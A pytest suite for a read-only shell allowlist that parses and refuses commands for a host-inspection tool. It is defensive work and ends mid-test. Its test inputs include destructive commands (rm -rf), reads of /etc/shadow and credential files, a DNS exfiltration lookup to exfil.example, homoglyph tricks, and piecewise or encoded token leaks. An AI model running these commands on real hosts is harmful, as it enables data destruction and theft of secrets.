"""The strict host_bash allowlist, unit by unit: the table-driven option
parser (long, abbreviated, ``--opt=value``, bundles), the canonical argv
rebuilt from the parse, exact refusal reasons, the safe kernel files, and
allowed commands that really run and give the right output."""

from __future__ import annotations

import os
import re
import time
from pathlib import Path

import pytest
from ongrid_host.bash_policy import analyze
from ongrid_host.commands import SPECS
from ongrid_host.expr_rules import sed_script_problem
from ongrid_host.optspec import CommandSpec, Opt, Refusal, parse
from ongrid_host.path_policy import PathPolicy, grep_exclusions

from ongridd.errors import ToolError
from tests.host import bash_corpus as bc

ALLOWED_PREFIX = "is not an option systemctl may take read-only (allowed: "

# (command, verdict, the exact reason — or its start when it ends with "…")
EXACT = [
    ("systemctl --frobnicate status", "write",
     f"systemctl: option '--frobnicate' {ALLOWED_PREFIX}…"),
    ("systemctl --message status restart nginx", "write",
     "systemctl: option '--message' of systemctl is not needed by the read-only verbs (it belongs to verbs that "
     "change state, or to another manager)"),
    ("systemctl --mess x restart nginx", "write", "systemctl: option '--mess' (--message) of systemctl …"),
    ("systemctl --job-mode=fail status", "write", "systemctl: option '--job-mode=fail' of systemctl …"),
    ("systemctl --s x", "refused",
     "systemctl: option '--s' of systemctl is an ambiguous abbreviation (--show-transaction, --show-types, "
     "--signal, --state, --stdin, --system); write the option in full"),
    ("systemctl -aM x status", "write",
     "systemctl: option '-M' (in '-aM') of systemctl runs the command on another machine or container"),
    ("systemctl -at service restart nginx", "write",
     "systemctl: verb 'restart' changes state or is not read-only; read-only verbs: status, show, is-active, "
     "is-enabled, is-failed, list-units, list-unit-files, list-timers, list-sockets, list-dependencies, cat"),
    ("systemctl --no-pager=yes status", "refused", "systemctl: option '--no-pager=yes' of systemctl takes no value"),
    ("systemctl -t", "refused", "systemctl: option '-t' (in '-t') of systemctl needs a value"),
    ("tail -fn5 /etc/hostname", "refused",
     "tail: option '-f' (in '-fn5') of tail follows forever (the call would only time out); read a window "
     "instead (-n / --since)"),
    ("sort -uo /tmp/x /etc/hostname", "write", "sort: option '-o' (in '-uo') of sort writes a file"),
    ("sort --out /tmp/x /etc/hostname", "write", "sort: option '--out' (--output) of sort writes a file"),
    ("cat /etc/shadow", "refused", "cat: forbidden path: '/etc/shadow' names a secrets file (/etc/shadow)"),
    ("cat /proc/1/cmdline", "refused", "cat: forbidden path: path '/proc/1/cmdline' would read /proc (…"),
    ("cat /dev/sda", "refused", "cat: forbidden path: path '/dev/sda' would read /dev (devices: endless or raw "
                                "data)"),
    ("rm -rf /tmp/x", "write", "'rm' is not on the read-only allowlist (…"),
    ("journalctl -o bad", "write",
     "journalctl: value 'bad' of option -o/--output of journalctl: expected one of short, …"),
    ("find /tmp -delete", "write", "find action '-delete' deletes files"),
    ("find /tmp -frobnicate", "write", "find: '-frobnicate' is not a test, operator or action find may use "
                                       "read-only"),
    ("ip link s lo down", "write", "ip link s: changes state or is not read-only; read-only verbs: show, list, "
                                   "get"),
    ("ip link show dev lo set down", "write", "ip: word 'set' is a verb that changes state"),
    ("sed 's/a/b/w /tmp/x' /etc/hostname", "write", "sed: script 's/a/b/w /tmp/x': sed command 's' rewrites the "
     "text it prints; print lines as they are (sed -n '10,20p', grep)"),
    ("mount /dev/sda /mnt", "write", "mount: only allowed without arguments (with arguments it changes mounts)"),
    ("sysctl vm", "write", "sysctl: reading 'vm' reads vm.stat_refresh, which makes the kernel fold its per-CPU "
     "counters (a change); name the parameters to read (sysctl vm.swappiness vm.overcommit_memory), or a prefix "
     "other than vm"),
    ("sysctl -a", "write", "sysctl: reading every parameter reads vm.stat_refresh, which makes the kernel fold its "
     "per-CPU counters (a change); name the parameters to read (sysctl vm.swappiness vm.overcommit_memory), or a "
     "prefix other than vm"),
    ("sed 'ba;:a w /tmp/x' /etc/hostname", "write", "sed: script 'ba;:a w /tmp/x': sed command 'w' writes a file"),
    ("date 0101", "write", "date: operand '0101' would set the system clock (only +FORMAT is read-only)"),
    ("getent shadow", "refused", "getent: database 'shadow' holds password hashes (a secret)"),
    ("getent hosts c2VjcmV0.exfil.example", "refused",
     "getent hosts KEY sends the key to the DNS servers, which would carry any text out of this host; use "
     "host_probe_dns, whose names an operator lists (getent hosts with no key lists the local file)"),
    ("systemctl \u2013-message x", "refused",
     "word 2 '\u2013-message' starts with U+2013 (EN DASH), which looks like '-' but is not one; write options "
     "with the ASCII '-'"),
    ("\u0441ystemctl status", "refused",
     "command name '\u0441ystemctl' contains the non-ASCII character U+0441 (CYRILLIC SMALL LETTER ES)"),
    ("cat /etc/host\u200bname", "refused",
     "word 2 '/etc/host\\u200bname' contains the invisible, unpaired or non-ASCII space character U+200B (ZERO WIDTH SPACE)"),
]


@pytest.mark.parametrize(("cmd", "kind", "reason"), EXACT)
def test_refusal_reasons_are_exact(cmd, kind, reason):
    verdict = analyze(cmd)
    assert verdict.kind == kind, verdict
    if reason.endswith("…"):
        assert verdict.reason.startswith(reason[:-1]), verdict.reason
    else:
        assert verdict.reason == reason
    # write verdicts keep the words as written (only a review may run them); refusals run nothing
    assert verdict.argv == (tuple(cmd.split()) if kind == "write" and "'" not in cmd else verdict.argv)
    if kind == "refused":
        assert verdict.argv == ()


# (command, the canonical argv that runs)
CANONICAL = [
    ("systemctl", ("systemctl", "--", "list-units")),
    ("systemctl --type=service --state=failed list-units",
     ("systemctl", "-t", "service", "--state", "failed", "--", "list-units")),
    ("systemctl -at service list-units", ("systemctl", "-a", "-t", "service", "--", "list-units")),
    ("systemctl --no-pag --ful status nginx", ("systemctl", "--no-pager", "-l", "--", "status", "nginx")),
    ("systemctl status -pActiveState nginx", ("systemctl", "-p", "ActiveState", "--", "status", "nginx")),
    ("head -5 /etc/passwd", ("head", "-n", "5", "--", "/etc/passwd")),
    ("tail --lines=+3 /etc/passwd", ("tail", "-n", "+3", "--", "/etc/passwd")),
    ("journalctl -u x -n 5 --no-pager", ("journalctl", "-u", "x", "-n5", "--no-pager")),
    ("journalctl -b -1 --lines=20", ("journalctl", "-b-1", "-n20")),
    ("ps -ef", ("ps", "-e", "-f")),
    ("ps -eo pid,comm --sort -%cpu", ("ps", "-e", "-o", "pid,comm", "--sort=-%cpu")),
    ("ps 1", ("ps", "-p", "1")),
    ("ip a", ("ip", "address", "show")),
    ("ip -br -4 a sh dev lo", ("ip", "-brief", "-4", "address", "show", "dev", "lo")),
    ("ip r get 127.0.0.1", ("ip", "route", "get", "127.0.0.1")),
    ("grep -rnie KEY /var/log", ("grep", "-r", "-n", "-i", "-e", "KEY", *grep_exclusions(), "--binary-files=without-match",
                                 "--devices=skip", "--", "/var/log")),
    ("grep --colo=never x /etc/hostname", ("grep", "--color=never", "--", "x", "/etc/hostname")),
    ("sed -n 1p /etc/hostname", ("sed", "--sandbox", "-n", "--", "1p", "/etc/hostname")),
    ("find /etc -maxdepth 1 -name '*.conf' -print", ("find", "/etc", "-maxdepth", "1", "-name", "*.conf", "-print")),
    ("df -hT", ("df", "-h", "-T")),
    ("ss -tlnp", ("ss", "-t", "-l", "-n", "-p")),
    ("date +%F", ("date", "+%F")),
    ("mount", ("mount",)),
    ("cat /proc/loadavg", ("cat", "--", "/proc/loadavg")),
]


@pytest.mark.parametrize(("cmd", "argv"), CANONICAL)
def test_the_argv_that_runs_is_rebuilt_from_the_parse(cmd, argv):
    verdict = analyze(cmd)
    assert verdict.kind == "read", verdict
    assert verdict.argv == argv


def test_every_refused_systemctl_option_is_refused_in_every_spelling():
    spec = SPECS["systemctl"]
    for names, _why, _kind in spec.refused:
        for name in names:
            forms = [f"-{name}", f"-a{name}"] if len(name) == 1 else [f"--{name}", f"--{name}=x"]
            for form in forms:
                verdict = analyze(f"systemctl {form} status")
                assert verdict.kind != "read", form
                assert (f"'-{name}'" if len(name) == 1 else f"--{name}") in verdict.reason, (form, verdict.reason)


def test_abbreviations_resolve_against_refused_and_known_names():
    spec = CommandSpec("demo", (Opt(long="value"), Opt(long="verbose")),
                       refused=((("validate",), "changes things", "write"),), known=("vacuum",))
    assert parse(spec, ["--verb"]).options[0][0].long == "verbose"
    with pytest.raises(Refusal, match=r"'--vali' \(--validate\) of demo changes things"):
        parse(spec, ["--vali"])
    with pytest.raises(Refusal, match=r"ambiguous abbreviation \(--vacuum, --validate, --value\)"):
        parse(spec, ["--va"])
    with pytest.raises(Refusal, match=r"'--vacuum' is not an option demo may take read-only"):
        parse(spec, ["--vacuum"])


@pytest.mark.parametrize("script", ["1p", "/x/,/y/{p;d}", "$!N;P;D", ":a;N;ba", "10,20p", "/error/p",
                                    "1~2p", "0,/re/d", "$p", "\\%x%d", "a text w /tmp/x", "# w x",
                                    "{ba};:a;p", "b end;:end;p", "t;p", "v 4.2"])
def test_sed_scripts_that_only_print_are_read(script):
    assert sed_script_problem(script) is None


@pytest.mark.parametrize(("script", "why"), [
    ("w /tmp/x", "sed command 'w' writes a file"), ("1W /tmp/x", "sed command 'W' writes a file"),
    ("s/a/b/w /tmp/x", "command 's' rewrites"), ("s/a/b/e", "command 's' rewrites"), ("1e id", "command 'e' runs"),
    ("r /etc/shadow", "command 'r' reads a file"), ("2R /etc/shadow", "command 'R' reads a file"),
    ("p;w /tmp/x", "command 'w'"), ("/x/!{p;w /tmp/x\n}", "command 'w'"), ("s/a/b/gw /tmp/x", "command 's'"),
    ("k", "sed command 'k' is not on the read-only list"),
    # s and y rewrite what they print: a held secret upper-cased or with its letters swapped would pass
    ("s/a/b/g", "sed command 's' rewrites the text it prints"), ("y/abc/ABC/", "sed command 'y' rewrites"),
    ("1p;s|a|b|2p", "command 's' rewrites"), ("/x/{s/./&./g}", "command 's' rewrites"),
    ("\u00b2p", "not on the read-only list"),  # "²" is no line number to sed
    # GNU sed ends a label at whitespace and reads what follows as the next command
    ("ba;:a w /tmp/x", "command 'w'"), ("ba;:a e id", "command 'e'"), (":a\tw /tmp/x", "command 'w'"),
    ("b a w /tmp/x", "command 'w'"), ("ba}w /tmp/x", "command 'w'"),
    ("ba\nw /tmp/x\n:a", "not on the read-only list"), (":a\u00a0w /tmp/x", "label"),
])
def test_sed_scripts_that_write_or_run_are_not_read(script, why):
    assert why in (sed_script_problem(script) or "")


# ---- safe kernel files -------------------------------------------------------------------

SAFE = ["/proc/loadavg", "/proc/meminfo", "/proc/pressure/cpu", "/proc/pressure/memory", "/proc/pressure/io",
        "/proc/self/status", "/proc/1/status", "/proc/1/statm", "/proc/1/limits", "/proc/1/cgroup",
        "/proc/stat", "/proc/uptime", "/proc/vmstat", "/sys/fs/cgroup/memory.current", "/sys/fs/cgroup/memory.max",
        "/sys/fs/cgroup/memory.stat", "/sys/fs/cgroup/memory.pressure", "/sys/fs/cgroup/memory.events",
        "/sys/fs/cgroup/cpu.stat", "/sys/fs/cgroup/cpu.max", "/sys/fs/cgroup/cpu.pressure",
        "/sys/fs/cgroup/system.slice/nginx.service/memory.current"]
UNSAFE = ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/proc/self/cmdline", "/proc/self/mem",
          "/proc/self/maps", "/proc/self/smaps", "/proc/self/fd/0", "/proc/self/root/etc/shadow",
          "/proc/self/root/proc/loadavg", "/proc/1/cwd/etc/passwd", "/proc/1/task/1/environ", "/proc/kcore",
          "/proc/sys/kernel/random/boot_id", "/proc/pressure", "/sys/class/net/lo/address",
          "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/../../proc/loadavg/x", "/sys/kernel/debug",
          "/dev/null", "/dev/sda", "/proc/thread-self/environ", "/proc/loadavg/../self/environ"]


@pytest.mark.parametrize("path", SAFE)
def test_safe_kernel_files_may_be_read(path):
    assert PathPolicy.local().read_problem(path) is None
    assert PathPolicy.remote().read_problem(path) is None
    assert analyze(f"cat {path}").kind == "read"


@pytest.mark.parametrize("path", UNSAFE)
def test_the_rest_of_proc_sys_and_dev_stays_refused(path):
    verdict = analyze(f"cat {path}")
    assert verdict.kind == "refused" and "forbidden path" in verdict.reason, verdict
    assert analyze(f"cat {path}", PathPolicy.remote()).kind == "refused"


def test_symlinks_are_judged_by_their_real_path(tmp_path):
    links = {"to-environ": "/proc/self/environ", "to-shadow": "/etc/shadow", "to-cmdline": "/proc/1/cmdline",
             "to-root": "/proc/1/root", "to-cwd": "/proc/self/cwd"}
    for name, target in links.items():
        (tmp_path / name).symlink_to(target)
    for cmd in (f"cat {tmp_path}/to-environ", f"cat {tmp_path}/to-shadow", f"head {tmp_path}/to-cmdline",
                f"cat {tmp_path}/to-root/etc/shadow", f"cat {tmp_path}/to-cwd/etc/hostname",
                f"grep -r x {tmp_path}/to-root"):
        verdict = analyze(cmd)
        assert verdict.kind == "refused" and "forbidden path" in verdict.reason, (cmd, verdict)
    for name in ("to-environ", "to-cwd"):
        assert "forbidden path" in analyze(f"cat {tmp_path}/{name}/x").reason
    assert "points somewhere else for the command" in analyze(f"cat {tmp_path}/to-cwd/etc/hostname").reason
    (tmp_path / "to-loadavg").symlink_to("/proc/loadavg")
    assert analyze(f"cat {tmp_path}/to-loadavg").kind == "read"


# ---- allowed commands run and give the right output --------------------------------------


@pytest.fixture
def stand_ins(tmp_path, monkeypatch):
    log = tmp_path / "runs.log"
    folder = tmp_path / "bin"
    folder.mkdir()
    for name in ("systemctl", "reboot"):
        bc.stand_in(folder, name, log)
    monkeypatch.setenv("PATH", f"{folder}:{os.environ['PATH']}")
    return log


async def test_allowed_commands_run_for_a_read_only_persona(call, stand_ins):
    result = await call("host_bash", {"cmd": "systemctl status nginx"}, read_only=True)
    assert result["stdout"] == "stand-in systemctl\n" and result["argv"] == ["systemctl", "--", "status", "nginx"]
    assert bc.recorded(stand_ins) == [["systemctl", "--", "status", "nginx"]]
    result = await call("host_bash", {"cmd": "cat /proc/loadavg"}, read_only=True)
    assert result["exit_code"] == 0 and re.match(r"^\d+\.\d+ \d+\.\d+ \d+\.\d+ \d+/\d+ \d+\n$", result["stdout"])
    result = await call("host_bash", {"cmd": "cat /proc/self/status"}, read_only=True)
    assert result["exit_code"] == 0 and "VmRSS" in result["stdout"] or "Pid:" in result["stdout"]
    result = await call("host_bash", {"cmd": "ps -ef"}, read_only=True)
    assert result["exit_code"] == 0 and result["stdout"].splitlines()[0].split()[:2] == ["UID", "PID"]
    result = await call("host_bash", {"cmd": "df -h"}, read_only=True)
    assert result["exit_code"] == 0 and result["stdout"].startswith("Filesystem")
    result = await call("host_bash", {"cmd": "journalctl -u x -n 5 --no-pager"}, read_only=True)
    assert result["argv"] == ["journalctl", "-u", "x", "-n5", "--no-pager"] and result["exit_code"] is not None
    with pytest.raises(ToolError, match=r"option '--message' of systemctl is not needed"):
        await call("host_bash", {"cmd": "systemctl --message status restart nginx"}, read_only=True)
    assert bc.recorded(stand_ins) == [["systemctl", "--", "status", "nginx"]]


@pytest.mark.parametrize("name", sorted(SPECS))
def test_every_table_refuses_unknown_and_refused_options_by_name(name):
    spec = SPECS[name]
    verdict = analyze(f"{name} --zz-not-an-option")
    assert verdict.kind == "write"
    assert verdict.reason.startswith(f"{name}: option '--zz-not-an-option' is not an option {name} may take "
                                     "read-only (allowed: ")
    for names, why, kind in spec.refused:
        for opt in names:
            word = f"-{opt}" if len(opt) == 1 else f"--{opt}"
            verdict = analyze(f"{name} {word} x")
            assert verdict.kind == kind, (word, verdict)
            assert verdict.reason == f"{name}: option '{word}' of {name} {why}", verdict.reason


def test_a_recursive_grep_skips_every_secret_named_file_and_folder_under_it(tmp_path):
    """The recursion check sees only the folder named; what lies under it is kept out by the rebuilt argv."""
    import subprocess

    (tmp_path / "home" / ".aws").mkdir(parents=True)
    (tmp_path / "home" / "app").mkdir()
    (tmp_path / "home" / ".SSH").mkdir()
    for rel in ("home/.aws/credentials", "home/.netrc", "home/app/server.key", "home/app/.env",
                "home/.bash_history", "home/app/app.log", "home/app/Shadow.bak", "home/app/ID_RSA", "home/app/.ENV",
                "home/app/server.KEY", "home/.SSH/config", "home/app/Credentials"):
        (tmp_path / rel).write_text("SEKRIT-line\n")
    # an --include of everything cannot undo the exclusions (GNU grep: the last matching one wins), and an
    # --include of some files still narrows the search
    for cmd, shown in (("grep -r SEKRIT home", ["home/app/app.log:SEKRIT-line"]),
                       ("grep -r '--include=*' SEKRIT home", ["home/app/app.log:SEKRIT-line"]),
                       ("grep -r --include='*' '' home", ["home/app/app.log:SEKRIT-line"]),
                       ("grep --include=.env '--include=*.key' -r SEKRIT home", []),
                       ("grep -r --include '*.log' -e SEKRIT home", ["home/app/app.log:SEKRIT-line"]),
                       ("grep -r '--include=*.txt' SEKRIT home", [])):
        verdict = analyze(cmd, PathPolicy.local(cwd=str(tmp_path)))
        assert verdict.kind == "read", verdict
        out = subprocess.run(verdict.argv, cwd=tmp_path, capture_output=True, text=True, timeout=30).stdout
        assert sorted(out.splitlines()) == shown, (cmd, out)


@pytest.mark.parametrize(("cmd", "why"), [
    ("cat /home/alice/.config/openstack/clouds.yaml", "cloud credentials"),
    ("cat /home/alice/.cargo/credentials.toml", "a credentials file"),
    ("cat /etc/nginx/.htpasswd", "web server password hashes"), ("cat /etc/apache2/htpasswd.users", "password hashes"),
    ("cat /home/alice/.terraformrc", "cloud credentials"), ("cat /home/alice/.m2/settings.xml", "Maven"),
    ("cat /home/alice/.config/glab-cli/config.yml", "GitLab"), ("cat /etc/postfix/sasl_passwd.db", "mail relay"),
    ("cat /etc/cifs-credentials", "a credentials file"), ("head /root/aws_credentials.bak", "a credentials file"),
    ("cat /etc/credentials.d/db", "a credentials folder"),
    # a forbidden folder's copy inside a container image, a chroot, a backup
    ("cat /var/lib/docker/overlay2/abc/diff/etc/wireguard/wg0.conf", "a copy of /etc/wireguard"),
    ("cat /srv/chroot/etc/kubernetes/admin.conf", "a copy of /etc/kubernetes"),
    ("cat /backup/etc/ssl/private/README", "a copy of /etc/ssl/private"),
    # container storage is not read recursively (every image's /etc lies under it), rootless too
    ("grep -r PrivateKey /var/lib/docker/overlay2", "container image"), ("grep -rl token /var/lib/containerd", "container"),
    ("grep -r x /home/alice/.local/share/containers/storage", "a user's container storage"),
])
def test_more_secret_places_are_not_read(cmd, why):
    verdict = analyze(cmd)
    assert verdict.kind == "refused" and why in verdict.reason, (cmd, verdict)


def test_a_recursive_read_of_a_folder_holding_a_copy_of_an_area_is_refused(tmp_path):
    (tmp_path / "chroot" / "etc" / "kubernetes").mkdir(parents=True)
    (tmp_path / "chroot" / "etc" / "kubernetes" / "admin.conf").write_text("token: x\n")
    for folder in (tmp_path / "chroot", tmp_path / "chroot" / "etc"):
        verdict = analyze(f"grep -r token {folder}")
        assert verdict.kind == "refused" and "a copy of /etc/kubernetes" in verdict.reason, verdict
    assert analyze(f"grep -r token {tmp_path / 'chroot' / 'etc' / 'other'}").kind == "read"


@pytest.mark.parametrize("cmd", [
    "du -sh /var/lib/docker", "find /var/lib/docker -size +100M", "du -sh /home/alice/.m2",
    "cat /etc/nginx/nginx.conf", "grep -r server_name /etc/nginx", "cat /etc/passwd",
    # applications' data in a volume, packaged code and manuals named like secrets, a Maven pom
    "grep -r ERROR /var/lib/docker/volumes/app_logs/_data", "cat /usr/lib/python3/dist-packages/botocore/credentials.py",
    "cat /usr/share/doc/git/git-credential.txt", "zcat /usr/share/man/man1/htpasswd.1.gz",
    "cat /home/alice/.m2/repository/x/foo-1.0.pom",
])
def test_listing_container_storage_and_plain_files_are_still_read(cmd):
    assert analyze(cmd).kind == "read", cmd


# ---- files that hold the daemon's own secrets ----------------------------------------------


HELD = "ALICEtoken0123456789abcd"


def test_a_file_holding_a_held_secret_is_not_read_by_any_command_that_prints_it(tmp_path):
    """Whatever a read does to the text — a case change, a few characters at a time, single
    characters with their offsets — no copy of a secret the daemon holds leaves the file: the file
    is not read.  Metadata reads, and the same file once the secret is gone, still are."""
    import gzip

    from ongridd.secretset import REGISTRY

    notes = tmp_path / "notes.txt"
    notes.write_text(f"alice ops login\n{HELD.upper()}\n")  # even a copy in another letter case
    (tmp_path / "old.gz").write_bytes(gzip.compress(f"token={HELD}\n".encode()))
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "deep.conf").write_text(f"key: {HELD}\n")
    (tmp_path / "plain.log").write_text("nothing secret\n")
    policy = PathPolicy.local(cwd=str(tmp_path))
    with REGISTRY.hold([HELD]):
        for cmd in ("cat notes.txt", "head -c 14 notes.txt", "grep -o '[a-m]' notes.txt", "sed -n 2p notes.txt",
                    "sort notes.txt", "tail -n 1 notes.txt", "zcat old.gz", "zgrep token old.gz",
                    "grep -r login .", "grep -r key sub", "grep -r alice notes.txt", "grep -d recurse x notes.txt"):
            verdict = analyze(cmd, policy)
            assert verdict.kind == "refused", (cmd, verdict)
            assert "holds a secret Ongrid itself is configured with" in verdict.reason, (cmd, verdict.reason)
        # gzip's zcat also unpacks formats the check does not read: refused whatever they hold
        (tmp_path / "old.Z").write_bytes(b"\x1f\x9d\x90" + b"x" * 20)
        (tmp_path / "oldgz.gz").write_bytes(b"\x1f\x9e" + b"x" * 20)
        for cmd, what in (("zcat old.Z", "compress .Z"), ("zgrep x oldgz.gz", "old gzip"), ("cat old.Z", "compress")):
            verdict = analyze(cmd, policy)
            assert verdict.kind == "refused" and f"compressed in a format ({what}" in verdict.reason, (cmd, verdict)
        for cmd in ("stat notes.txt", "ls -l notes.txt", "cat plain.log", "grep -r nothing plain.log"):
            assert analyze(cmd, policy).kind == "read", cmd
        notes.write_text("alice ops login\n(rotated)\n")
        assert analyze("cat notes.txt", policy).kind == "read"  # the verdict follows the file
    assert analyze("cat sub/deep.conf", policy).kind == "read"  # not a secret of this daemon's any more


async def test_the_reads_that_rebuilt_a_token_are_refused_through_the_tool(call, tmp_path):
    from ongridd.secretset import REGISTRY

    notes = tmp_path / "notes.txt"
    notes.write_text(f"alice ops login\n{HELD}\n")
    with REGISTRY.hold([HELD]):
        for cmd in (f"sed -n p {notes}", f"grep -o '[A-Za-z0-9]' {notes}", f"grep -r -h -o . {notes}"):
            with pytest.raises(ToolError) as info:
                await call("host_bash", {"cmd": cmd, "timeout_s": 5}, read_only=True)
            assert "holds a secret Ongrid itself is configured with" in str(info.value)
            assert HELD not in str(info.value)


@pytest.mark.parametrize(("cmd", "why"), [
    ("grep -o -b . /etc/hostname", "with -b in front of each"), ("grep -on x /etc/hostname", "with -n"),
    ("grep -oT x /etc/hostname", "with -T"), ("grep -o --label=L x /etc/hostname", "with --label"),
    ("grep -o x /etc/hostname /etc/hosts", "a file name"), ("grep -r -o x /etc/hostname", "a file name"),
    ("grep -oH x /etc/hostname", "a file name"), ("zgrep -ob . /etc/hostname", "with -b"),
    ("grep --color=always x /etc/hostname", "terminal escapes around every match"),
    ("grep --colour=always x /etc/hostname", "terminal escapes"),
])
def test_grep_output_that_would_label_single_characters_is_refused(cmd, why):
    """``grep -o -b .`` prints every character of a file with its offset: a held secret in a file
    too large to be checked would pass the output's redaction cut into labelled pieces."""
    verdict = analyze(cmd)
    assert verdict.kind == "refused" and why in verdict.reason, verdict


@pytest.mark.parametrize("cmd", ["grep -o x /etc/hostname", "grep -oh x /etc/hostname /etc/hosts",
                                 "grep -rho x /etc/hostname", "grep -n x /etc/hostname", "grep --color x /etc/hostname",
                                 "grep -c x /etc/hostname /etc/hosts", "grep --color=never -o x /etc/hostname"])
def test_grep_output_that_keeps_lines_whole_or_matches_unlabelled_is_read(cmd):
    assert analyze(cmd).kind == "read", cmd


def _too_large_to_check(path, text: str) -> None:
    """``path``: a sparse file over the secret scan's limit, ``text`` at its end (no disk used)."""
    from ongridd.secretset import FILE_SCAN_BYTES

    with open(path, "wb") as fh:
        fh.truncate(FILE_SCAN_BYTES + 1)
        fh.seek(0, os.SEEK_END)
        fh.write(b"\n" + text.encode())


def test_reads_that_answer_questions_about_a_file_too_large_to_check_are_refused(tmp_path):
    """A file over the scan's limit is not checked for the daemon's secrets, and what reads it prints
    is redacted; but a command whose output depends on what the file holds could give a held secret
    away a few characters (``grep -o -P '(?<=/bot).{7}'``, ``head -c``) or one yes/no (``grep -c
    -P '/bot.{10}A'``, ``sed -n '/bot1/q97'`` and its exit code, ``sort -k2.10``) at a time, each
    too little for the redaction. So while a secret is held, only reads by position (``cat``,
    ``head -n``, ``tail -n``, ``wc``) run on such a file; on a checked file every read does, and
    with no secret held nothing is refused."""
    from ongridd.secretset import REGISTRY

    _too_large_to_check(tmp_path / "big.log", f"POST https://api.example/bot{HELD}/getUpdates\n")
    (tmp_path / "logs").mkdir()
    _too_large_to_check(tmp_path / "logs" / "big.log", f"token={HELD}\n")
    (tmp_path / "small.log").write_text("GET /healthz 200\n")
    policy = PathPolicy.local(cwd=str(tmp_path))
    asking = ("grep -o -P '(?<=/bot).{7}' big.log", "grep -oE 'bot.{7}' big.log", "egrep -o x big.log",
              "zgrep -o x big.log", "head -c 100 big.log", "tail -c +67108870 big.log", "tail --bytes=7 big.log",
              "grep -r -h -o x logs", "grep -rho x .", "grep -c -P '/bot.{10}A' big.log", "grep -q bot1 big.log",
              "grep -l bot1 big.log", "grep bot big.log", "sed -n '/bot1/q97' big.log", "sed -n '/bot1/=' big.log",
              "sort -k2.10 big.log", "zgrep -c x big.log", "grep -r -l token logs", "grep -f big.log small.log")
    by_position = ("tail -n 1 big.log", "head -n 3 big.log", "cat big.log", "wc -c big.log", "md5sum big.log",
                   "grep -o x small.log", "head -c 10 small.log", "grep -r -h -o GET small.log", "sort small.log",
                   "sed -n '/GET/q97' small.log")
    with REGISTRY.hold([HELD]):
        for cmd in asking:
            verdict = analyze(cmd, policy)
            assert verdict.kind == "refused", (cmd, verdict)
            assert "could not be checked for" in verdict.reason and "depends on what it holds" in verdict.reason, (
                cmd, verdict.reason)
        for cmd in by_position:
            assert analyze(cmd, policy).kind == "read", cmd
    for cmd in asking:  # no secret held: nothing a file could hold to protect
        assert analyze(cmd, policy).kind in ("read", "write"), cmd


def test_a_gzip_file_is_checked_as_it_is_too(tmp_path):
    """gzip -dc ignores bytes after its last member and a header's file name, but grep -a and cat
    print them: a gzip file is searched as it is as well as unpacked."""
    import gzip

    from ongridd.secretset import REGISTRY

    (tmp_path / "trail.log").write_bytes(gzip.compress(b"hello\n") + f"GET /bot{HELD}/sendMessage 200\n".encode())
    named = bytearray(gzip.compress(b"hello\n"))
    named[3] |= 8  # FNAME: a zero-terminated name after the fixed header
    (tmp_path / "named.gz").write_bytes(bytes(named[:10]) + HELD.encode() + b"\0" + bytes(named[10:]))
    policy = PathPolicy.local(cwd=str(tmp_path))
    with REGISTRY.hold([HELD]):
        for cmd in ("grep -a -o -P '(?<=/bot).{7}' trail.log", "head -c 40 trail.log", "cat trail.log",
                    "grep -a -o -P 'bot.{7}' named.gz", "zcat named.gz"):
            verdict = analyze(cmd, policy)
            assert verdict.kind == "refused" and "holds a secret Ongrid itself" in verdict.reason, (cmd, verdict)


def test_a_file_that_changed_is_checked_again_whole(tmp_path):
    """A verdict is kept only while the file's size, modification and change times stay the same: a
    log appended to, a file rewritten in place and grown, and one rewritten at the same size with
    its modification time put back (touch -r, cp -p) are each read whole again."""
    from ongridd.secretset import REGISTRY, file_holds_secret

    log = tmp_path / "app.log"
    log.write_text("GET /healthz 200\n" * 1000 + "token=" + HELD[:5])
    with REGISTRY.hold([HELD]):
        assert file_holds_secret(str(log)) is False
        with open(log, "a") as fh:  # the rest of the secret: across what was read before and what was added
            fh.write(HELD[5:] + "\n")
        assert file_holds_secret(str(log)) is True
        log.write_text("GET /healthz 200\n" * 1000)
        assert file_holds_secret(str(log)) is False
        with open(log, "r+") as fh:  # in place, in the middle, then grown: first and last bytes unchanged
            fh.seek(8000)
            fh.write(f"token={HELD}\n")
        with open(log, "a") as fh:
            fh.write("GET /healthz 200\n")
        assert file_holds_secret(str(log)) is True
        log.write_text("GET /healthz 200\n" * 1000)
        assert file_holds_secret(str(log)) is False
        before = os.stat(log)
        with open(log, "r+") as fh:  # the same size, the modification time put back
            fh.seek(4000)
            fh.write(f"t={HELD}\n")
        os.utime(log, ns=(before.st_atime_ns, before.st_mtime_ns))
        assert os.stat(log).st_size == before.st_size and file_holds_secret(str(log)) is True


def test_copies_no_text_search_finds_are_checked_for(tmp_path):
    """A Kubernetes Secret holds a value in base64, a proxy log a Basic authorization (user:token in
    base64, at any alignment), a dump in hexadecimal: each is a copy of the secret."""
    import base64

    from ongridd.secretset import REGISTRY

    (tmp_path / "secret.yaml").write_text(f"data:\n  TOKEN: {base64.b64encode(HELD.encode()).decode()}\n")
    for user in ("ops", "o", "op"):
        basic = base64.b64encode(f"{user}:{HELD}".encode()).decode()
        (tmp_path / f"proxy-{user}.log").write_text(f'GET / auth="Basic {basic}"\n')
    (tmp_path / "dump.txt").write_text(HELD.encode().hex().upper() + "\n")
    urlsafe = base64.urlsafe_b64encode(b"\xfb\xff" + HELD.encode()).decode()
    (tmp_path / "jwt.txt").write_text(urlsafe + "\n")
    for lead in ("", "$h=", "$hd="):  # PowerShell's -EncodedCommand: base64 of UTF-16, at each alignment
        command = base64.b64encode(f"{lead}iwr -Headers @{{Authorization='Bearer {HELD}'}}".encode("utf-16-le"))
        (tmp_path / f"ps{len(lead)}.log").write_text(f"pwsh -EncodedCommand {command.decode()}\n")
    policy = PathPolicy.local(cwd=str(tmp_path))
    with REGISTRY.hold([HELD]):
        for name in ("secret.yaml", "proxy-ops.log", "proxy-o.log", "proxy-op.log", "dump.txt", "jwt.txt",
                     "ps0.log", "ps3.log", "ps4.log"):
            verdict = analyze(f"cat {name}", policy)
            assert verdict.kind == "refused" and "holds a secret Ongrid itself" in verdict.reason, (name, verdict)


def test_an_encoded_copy_wrapped_over_lines_is_checked_for(tmp_path):
    """``base64`` wraps at 76 columns, PEM and MIME at 64 with CRLF, ``xxd -p`` at 60: a copy split
    by a line break is still a copy (one ``cat`` of such a file printed a decodable token)."""
    import base64
    import gzip
    import subprocess

